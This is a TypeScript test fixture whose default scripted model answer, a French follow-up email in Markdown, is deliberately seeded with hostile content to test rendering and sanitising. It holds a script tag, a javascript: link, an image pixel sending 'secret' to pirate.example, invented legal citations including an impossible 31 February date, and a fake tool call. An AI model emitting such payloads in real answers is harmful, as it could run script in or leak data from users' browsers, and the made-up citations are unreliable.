/**
 * What the scripted model says by default: the Markdown of a helpful answer, and what a hostile one would slip in: markup, wrong and
 * invented citations, prose where a tool should be called.
 */
export const DEFAULT_ANSWER = `Voici une proposition, à relire avant l’envoi.

## Courriel de relance

Madame, Monsieur,

Sauf erreur de ma part, je n’ai **pas reçu** votre réponse au sujet de la *convention* ; l’échéance est fixée au « 15 décembre ».

1. Relire la pièce jointe
2. Répondre avant le 15
   - par courriel
   - ou par téléphone

| Étape | Délai | Montant |
|:------|:-----:|--------:|
| Dépôt | 8 jours | 1 200 € |
| Instruction | 2 mois | — |

\`\`\`python
def relance(nom: str) -> str:
    return f"Bonjour {nom} | **pas du gras**"
\`\`\`

La part due vaut $$\\frac{a + b}{2}$$ du total, et le ticket coûte 5 $ et non 10 $.

Voir [le site officiel](https://www.service-public.fr/) ; <script>window.pirate = true</script><b>gras brut</b>
[piège](javascript:alert(1)) ![pixel](https://pirate.example/pixel.png?q=secret)

Voir l’article L. 999-9 du code général de la fonction publique [1], [7] et la circulaire du 31 février 2025[^9]. Source : https://www.legifrance.example/inventee

<tool_call>{"name": "recherche", "arguments": {"q": "congé parental"}}</tool_call>
recherche(q="congé parental")

Cordialement 🙂 — œuvre, ça, naïve, Noël. Réponse de l’essai, fin.`;

/** A long, regular answer: `count` words. */
export const wordsAnswer = (count: number): string =>
  Array.from({ length: count }, (_, index) => `mot${index + 1}`).join(" ");
